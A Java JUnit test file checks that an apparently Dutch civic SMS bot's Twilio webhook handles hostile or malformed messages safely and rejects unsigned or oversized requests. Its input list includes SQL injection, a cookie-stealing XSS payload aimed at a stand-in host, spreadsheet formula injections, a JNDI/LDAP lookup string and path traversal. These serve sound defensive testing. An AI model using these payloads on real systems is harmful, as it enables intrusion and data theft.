package nl.meepraten.bot.channel.twilio;

import static nl.meepraten.bot.channel.twilio.WebhookRig.ANNA;
import static nl.meepraten.bot.channel.twilio.WebhookRig.MESSAGES;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import nl.meepraten.bot.LogBook;
import nl.meepraten.bot.Town;
import nl.meepraten.core.consultation.Question;
import nl.meepraten.core.story.Story;
import nl.meepraten.core.text.Segments;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/** Hostile and broken texts through the real webhook into the real bot: a kind reply, and a story as it was typed. */
class HostileTextTest {

    static final List<String> HOSTILE = List.of(
            "'; drop table contact; -- zei 't meisje van d'r zus",
            "<script>document.location='https://elders.example/'+document.cookie</script>",
            "<svg onload=alert(1)> & \"aanhaling\" &lt;b&gt; het blijft koud",
            "=HYPERLINK(\"https://elders.example\";\"klik\") zei hij gisteren",
            "+SUM(1+1)*cmd|' /C calc'!A0 stond op het bord",
            "{0} {1,number} '{'naam'}' ${jndi:ldap://elders.example/a} #{7*7} {{7*7}} %s %n",
            "het is daar \u0000 donker \u0000 en koud",
            "\ud83d\ude00\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 blij met de soep vandaag \ud83e\udd63",
            "half \ud83d een \ude00 gezicht blijft ook staan",
            "\u202eom tmok ed mits edlaah \u2066 jij \u2069 hier",
            "\u0645\u0631\u062d\u0628\u0627 \u0627\u0644\u0637\u0639\u0627\u0645 \u0628\u0627\u0631\u062f \u062c\u062f\u0627",
            "Z\u0327\u0301\u0322\u0335a\u0300\u0301\u0302lgo zingt in de nacht bij de bus",
            "regel een\r\nregel twee\tnaar rechts\u001b[31m rood \u0007 en \u0085 verder",
            "../../etc/passwd \\\\server\\share staat er op de muur",
            "\ufeffeen merkteken ervoor en \uffff erna",
            "a".repeat(20_000),
            "\u0643".repeat(20_000),
            "het was koud. ".repeat(1_400));

    static final List<String> NO_STORY = List.of(
            "",
            " ",
            "\u0000",
            "\u202e",
            "\ud83d",
            "\u200b\u200b",
            "\r\n",
            "????",
            "( ".repeat(10_000),
            "\ud83d\ude00".repeat(20_000));

    @TempDir
    Path folder;

    private Town town;
    private WebhookRig rig;
    private int messages;

    @BeforeEach
    void open() {
        town = new Town(folder);
        rig = new WebhookRig(town.bot.inbox());
    }

    @AfterEach
    void close() {
        rig.close();
        town.close();
    }

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void isAnsweredKindlyAndKeptAsTyped(String text) {
        for (int person = 1; person <= 5; person++) {
            says(number(person), "HAVEN");
            says(number(person), "ja");
        }
        int before = town.phones.of(number(1)).size();
        try (LogBook log = LogBook.everything("nl.meepraten", "io.javalin")) {
            for (int person = 1; person <= 5; person++) {
                says(number(person), text);
            }
            assertThat(log.lines()).isEmpty();
        }

        assertThat(town.phones
                        .of(number(1))
                        .subList(before, town.phones.of(number(1)).size()))
                .as("thanked, in one part, and nothing sent back")
                .singleElement()
                .asString()
                .startsWith("Dank je")
                .satisfies(reply -> assertThat(Segments.of(reply).one()).isTrue());
        town.passTheNight();
        town.passTheNight();
        assertThat(town.bot.stories().toRead())
                .hasSize(5)
                .extracting(Story::text)
                .containsOnly(text);
    }

    @ParameterizedTest
    @FieldSource("HOSTILE")
    void isNoAnswerToAQuestion(String text) {
        town.publish("de opvang", 5, Question.yesNo("Moeten honden mee naar binnen mogen?"));
        says(ANNA, "HAVEN");
        says(ANNA, "ja");
        int before = town.phones.of(ANNA).size();

        says(ANNA, text);

        List<String> replies =
                town.phones.of(ANNA).subList(before, town.phones.of(ANNA).size());
        assertThat(replies)
                .isNotEmpty()
                .allSatisfy(reply -> assertThat(Segments.of(reply).parts()).isBetween(1, 2));
        assertThat(String.join(" ", replies)).doesNotContain("opgeschreven", "elders.example");
        says(ANNA, "nee");
        assertThat(town.phones.of(ANNA).getLast()).as("the talk goes on").isNotBlank();
    }

    @ParameterizedTest
    @FieldSource("NO_STORY")
    void nothingReadableIsAnsweredToo(String text) {
        says(ANNA, text);
        says(ANNA, "HAVEN");
        says(ANNA, "ja");
        int before = town.phones.of(ANNA).size();

        says(ANNA, text);

        assertThat(town.phones.of(ANNA).size()).isGreaterThan(before);
    }

    @Test
    void whatTwilioDidNotSignOrIsTooLargeOrNoFormLeavesNoTrace() {
        Map<String, Integer> before = rows();
        Map<String, String> fields = WebhookRig.message("Het eten is koud, al een week");

        assertThat(rig.post(MESSAGES, WebhookRig.form(fields), Optional.empty()).statusCode())
                .isEqualTo(403);
        assertThat(rig.post(MESSAGES, WebhookRig.form(fields), Optional.of("AAAA"))
                        .statusCode())
                .isEqualTo(403);
        assertThat(rig.post(MESSAGES, new byte[TwilioWebhook.LARGEST_REQUEST + 1], Optional.of("AAAA"))
                        .statusCode())
                .isEqualTo(413);
        assertThat(rig.post(MESSAGES, "Body=%zz".getBytes(StandardCharsets.US_ASCII), Optional.of("A"))
                        .statusCode())
                .isEqualTo(400);

        assertThat(rows()).isEqualTo(before);
        assertThat(town.phones.of(ANNA)).isEmpty();
        says(ANNA, "Het eten is koud, al een week");
        assertThat(rows()).as("and the control: a real one does").isNotEqualTo(before);
    }

    private static String number(int person) {
        return "+3160000100" + person;
    }

    private void says(String number, String text) {
        Map<String, String> fields = WebhookRig.message(text);
        fields.put("From", number);
        fields.put("MessageSid", "SM%032x".formatted(++messages));
        assertThat(rig.signed(MESSAGES, fields).statusCode()).isEqualTo(200);
        town.bot.courier().sendAll();
    }

    private Map<String, Integer> rows() {
        Map<String, Integer> rows = new HashMap<>();
        for (String table : List.of("contact", "letterbox", "parcel", "seen")) {
            rows.put(
                    table,
                    town.database.read(handle -> handle.createQuery("select count(*) from " + table)
                            .mapTo(Integer.class)
                            .one()));
        }
        return rows;
    }
}
